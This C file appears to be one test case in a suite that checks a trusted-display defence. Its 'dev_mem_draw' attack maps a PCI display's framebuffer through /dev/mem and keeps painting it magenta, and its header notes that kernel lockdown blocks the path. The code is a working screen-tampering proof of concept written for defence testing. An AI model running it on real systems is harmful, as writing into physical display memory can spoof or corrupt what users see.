// SPDX-License-Identifier: Apache-2.0
/*
 * Draws in the display's memory through /dev/mem.
 *
 * attack: dev_mem_draw
 * class: screen
 * when: session
 * judge: picture-write
 * devices: bochs-display
 * append: iomem=relaxed
 * defence: boot
 * why: /dev/mem maps the framebuffer's addresses; lockdown shuts it, and the REE has no such node
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>

#include "pci.h"
#include "report.h"
#include "screen.h"
#include "vram.h"

#define REGISTERS 4096	/* bytes of the third BAR */

/* Where the device's third BAR is; resource is a file with a line for each. */
static uint64_t find_registers(const char *bar)
{
	char path[128], line[128];
	unsigned long long start = 0;
	unsigned int i;
	FILE *file;

	snprintf(path, sizeof(path), "%.*s", (int)(strlen(bar) - 1), bar);
	file = fopen(path, "re");
	for (i = 0; file && i < 3 && fgets(line, sizeof(line), file); i++)
		sscanf(line, "%llx", &start);
	if (file)
		fclose(file);
	return i == 3 ? start : 0;
}

static void *map(int fd, uint64_t address, size_t size, int protection)
{
	void *where = mmap(NULL, size, protection, MAP_SHARED, fd, (off_t)address);

	if (where == MAP_FAILED)
		attack_failed("mmap of %#llx: %s", (unsigned long long)address, strerror(errno));
	return where;
}

int main(void)
{
	struct pci_display display;
	void *memory, *registers;
	int fd, ret;

	attack_init();
	ret = pci_find_display(&display);
	if (ret)
		attack_unavailable("no display with memory of its own: %s", strerror(-ret));
	attack_ready();
	fd = open("/dev/mem", O_RDWR | O_SYNC | O_CLOEXEC);
	if (fd < 0)
		attack_failed("/dev/mem: %s", strerror(errno));
	memory = map(fd, display.address, display.size, PROT_READ | PROT_WRITE);
	registers = map(fd, find_registers(display.path), REGISTERS, PROT_READ);
	do
		vram_paint(memory, registers, SCREEN_MAGENTA);
	while (!attack_wait(100));
	attack_succeeded("drew at %#llx", (unsigned long long)display.address);
}
